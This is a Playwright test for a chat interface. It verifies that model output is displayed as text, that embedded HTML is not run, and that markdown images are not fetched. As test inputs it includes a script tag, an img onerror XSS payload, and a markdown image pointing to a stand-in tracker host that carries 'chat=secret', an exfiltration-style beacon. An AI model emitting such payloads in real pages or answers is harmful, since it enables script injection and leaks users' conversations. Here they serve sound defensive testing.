import { randomUUID } from "node:crypto";
import { expect, send, test } from "./fixtures";

test("model output is shown as text, never run as HTML, and its images are not fetched", async ({ page }) => {
  const remote: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith("http://127.0.0.1")) remote.push(request.url());
  });
  await page.getByRole("switch", { name: "Thinking" }).uncheck();
  // The simulated model repeats the prompt back, as a model can be talked into doing.
  await send(
    page,
    `${randomUUID().slice(0, 8)} <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2"> ` +
      "![tracker](https://tracker.example/pixel.png?chat=secret) [[sim:echo]]",
  );
  const answer = page.getByTestId("answer");
  await expect(answer).toContainText("<script>window.__pwned = 1</script>");
  await expect(answer.locator("script, img")).toHaveCount(0);
  const link = answer.getByRole("link", { name: "[image: tracker]" });
  await expect(link).toHaveAttribute("href", "https://tracker.example/pixel.png?chat=secret");
  await page.reload();
  await expect(page.getByTestId("answer")).toContainText("<script>");
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(remote).toEqual([]);
});
